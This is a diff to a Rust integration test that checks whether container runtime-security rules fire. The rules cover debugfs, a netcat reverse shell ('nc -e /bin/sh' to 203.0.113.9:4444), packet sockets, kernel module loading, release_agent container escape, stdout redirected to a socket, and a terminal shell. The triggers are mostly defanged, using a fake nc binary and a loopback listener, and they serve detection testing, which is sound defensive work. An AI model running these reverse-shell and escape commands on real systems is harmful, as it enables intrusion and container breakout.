@@ -480,26 +480,58 @@ fn container_rules_fire_in_a_container_cgroup_with_pod_metadata() {
     std::thread::sleep(Duration::from_millis(700));
     let debugfs = fx.path("debugfs");
     let kw_meta = fx.path("kw-meta");
-    for copy in [&debugfs, &kw_meta] {
+    let nc = fx.path("nc");
+    for copy in [&debugfs, &kw_meta, &nc] {
         std::fs::copy("/bin/true", copy).expect("copy");
         std::fs::set_permissions(copy, std::os::unix::fs::PermissionsExt::from_mode(0o755))
             .expect("chmod");
     }
     // Each process joins the container's cgroup, then execs the trigger.
-    let in_container = |exe: &Path| {
+    let in_container = |command: &str| {
         let status = Command::new("sh")
             .arg("-c")
             .arg(format!(
-                "echo $$ > {}/cgroup.procs && exec {} /dev/sda1",
+                "echo $$ > {}/cgroup.procs && exec {command}",
                 cgroup.display(),
-                exe.display()
             ))
             .status()
             .expect("sh");
-        assert!(status.success());
+        assert!(status.success(), "{command}");
     };
-    in_container(&debugfs);
-    in_container(&kw_meta);
+    in_container(&format!("{} /dev/sda1", debugfs.display()));
+    in_container(&format!("{} /dev/sda1", kw_meta.display()));
+    // event-generator's container actions: netcat with -e, then one perl process that
+    // opens a packet socket, loads a kernel module (a bad fd: the attempt is what
+    // counts), opens a release_agent for writing and puts a TCP socket on its stdout.
+    in_container(&format!("{} -e /bin/sh 203.0.113.9 4444", nc.display()));
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
+    let port = listener.local_addr().expect("addr").port();
+    let perl = format!(
+        "perl -MSocket -MPOSIX -e 'socket(my $p, 17, 3, 768); my $e = \"\"; syscall(313, -1, $e, 0); \
+         open(my $r, \">\", \"{}\"); socket(my $s, PF_INET, SOCK_STREAM, 0); \
+         connect($s, pack_sockaddr_in({port}, inet_aton(\"127.0.0.1\"))) or die; \
+         POSIX::dup2(fileno($s), 1) or die'",
+        fx.path("release_agent").display()
+    );
+    in_container(&perl);
+    // A shell with a terminal started by the runtime's shim: script(1) gives the pty, a
+    // shell copied as `containerd-shim` joins the cgroup and runs bash.
+    let shim = fx.path("containerd-shim");
+    std::fs::copy("/bin/sh", &shim).expect("copy");
+    std::fs::set_permissions(&shim, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+        .expect("chmod");
+    let terminal = Command::new("script")
+        .args(["-qec"])
+        .arg(format!(
+            "exec {} -c 'echo $$ > {}/cgroup.procs && bash -c true'",
+            shim.display(),
+            cgroup.display()
+        ))
+        .arg("/dev/null")
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
     std::thread::sleep(Duration::from_millis(300));
     let _ = Command::new("kill")
         .args(["-INT", &child.id().to_string()])
@@ -525,13 +557,29 @@ fn container_rules_fire_in_a_container_cgroup_with_pod_metadata() {
             "container.image.repository": "docker.io/ops/tools", "container.privileged": true,
             "k8s.ns.name": "ops", "k8s.pod.name": "tools-1", "k8s.pod.label[app]": "tools"})
     );
-    assert!(
-        fired
-            .iter()
-            .any(|a| a["rule"] == "Debugfs Launched in Privileged Container"
-                && a["output_fields"]["proc.name"] == "debugfs"),
-        "{stdout}"
-    );
+    for (rule, process) in [
+        ("Debugfs Launched in Privileged Container", "debugfs"),
+        ("Netcat Remote Code Execution in Container", "nc"),
+        ("Packet socket created in container", "perl"),
+        ("Linux Kernel Module Injection Detected", "perl"),
+        ("Detect release_agent File Container Escapes", "perl"),
+        (
+            "Redirect STDOUT/STDIN to Network Connection in Container",
+            "perl",
+        ),
+        ("Terminal shell in container", "bash"),
+    ] {
+        if process == "bash" && !terminal {
+            println!("script(1) could not run: the terminal shell trigger was not run");
+            continue;
+        }
+        assert!(
+            fired
+                .iter()
+                .any(|a| a["rule"] == rule && a["output_fields"]["proc.name"] == process),
+            "{rule} ({process}) did not fire: {stdout}"
+        );
+    }
 }
 
 #[test]
